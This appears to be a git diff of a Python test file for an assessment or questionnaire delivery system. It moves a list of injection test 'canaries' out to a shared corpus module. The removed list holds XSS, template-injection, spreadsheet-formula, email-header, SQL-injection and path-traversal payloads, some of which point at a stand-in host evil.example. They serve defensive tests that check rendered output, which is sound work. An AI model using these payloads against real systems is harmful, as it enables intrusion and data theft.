@@ -23,82 +23,13 @@ from assessment.delivery.pdf import Made
 from assessment.delivery.worker import Worker
 from assessment.settings import Settings, read_settings
 from assessment.working import build_worker
+from tests.attacks.corpus import CLASSIC as CANARIES
+from tests.attacks.corpus import EVALUATED, MARK
 from tests.conftest import sample_of
 from tests.databases import fresh_database
 from tests.walking import Walker, fields_of, hidden
 
 QUESTIONNAIRES = Path(__file__).parents[1] / "questionnaires"
-MARK = "Zq17"
-EVALUATED = re.compile(r"[A-Z]q\d\d1337")
-"""A mark, followed by what a template would make of 7 * 191."""
-"""Stands in every canary and nowhere else: where it must not show, it is searched for."""
-
-CANARIES = [
-    f"<script>alert('{MARK}')</script>",
-    f"<ScRiPt src=//evil.example/{MARK}></ScRiPt>",
-    f"</textarea><script>{MARK}</script>",
-    f'"><img src=x onerror=alert("{MARK}")>',
-    f"'><svg/onload=alert`{MARK}`>",
-    f'" autofocus onfocus="{MARK}',
-    f"' onclick='{MARK}",
-    f"<canary>{MARK}</canary>",
-    f"</title><canary>{MARK}",
-    f"</style><canary>{MARK}",
-    f"<!--{MARK}-->",
-    f"--><canary>{MARK}",
-    f"<a href='javascript:alert(1)'>{MARK}</a>",
-    f"javascript:alert('{MARK}')",
-    f"data:text/html,<script>{MARK}</script>",
-    f"<iframe src=file:///etc/passwd>{MARK}",
-    f"<link rel=stylesheet href=//evil.example/{MARK}>",
-    f"<base href=//evil/{MARK}>",
-    f"<meta http-equiv=refresh content=0;url=//evil/{MARK}>",
-    f"<form action=//evil><input name={MARK}>",
-    f"<object data=x>{MARK}",
-    f"<style>*{{display:none}}</style>{MARK}",
-    f"<img src='http://127.0.0.1:9/{MARK}'>",
-    f"<xml:canary/>{MARK}",
-    f"<![CDATA[{MARK}]]>",
-    f"&lt;canary&gt;{MARK}",
-    f"&#60;canary&#62;{MARK}",
-    f"&{MARK};",
-    f"\\x3ccanary\\x3e{MARK}",
-    f"\\u003ccanary\\u003e{MARK}",
-    f"{MARK}{{{{7*191}}}}",
-    f"{MARK}{{{{ config }}}}",
-    f"{MARK}{{% include 'base.html' %}}",
-    f"{MARK}${{7*191}}",
-    f"{MARK}#{{7*191}}",
-    f"{MARK}<%= 7*191 %>",
-    f"{MARK}{{{{''.__class__.__mro__}}}}",
-    f"{MARK}%(brand)s",
-    f"{MARK}%s%n%x",
-    f"{{0.__class__}}{MARK}",
-    f'=HYPERLINK("//evil","{MARK}")',
-    f"+{MARK}|cmd",
-    f"-{MARK}+1",
-    f"@SUM({MARK})",
-    f"\t={MARK}",
-    f"＝{MARK}",
-    f"=1+1;{MARK}",
-    f"{MARK}\r\nBcc: all@evil.example",
-    f"{MARK}\nSubject: {MARK}",
-    f"{MARK}\rX-{MARK}: 1",
-    f"{MARK}\u2028Bcc: a@evil.example",
-    f"{MARK}\x00nul",
-    f"{MARK}%0d%0aBcc: a@evil.example",
-    f"{MARK}\x1b[31m",
-    f"\u202e{MARK}\u202c",
-    f"{MARK}\ufeff\u200b\u2060",
-    f"http://evil.example/{MARK}",
-    f"Call +1 555 123 4567 {MARK}",
-    f"'; DROP TABLE response; -- {MARK}",
-    f"../../../{MARK}",
-    f"{MARK}" + "\u0301" * 40,
-    f"{MARK}" + "W" * 150,
-    f"🏴‍☠️ {MARK} ﷽",
-    f"__proto__.{MARK}",
-]
 
 HEADERS = {
     "from",
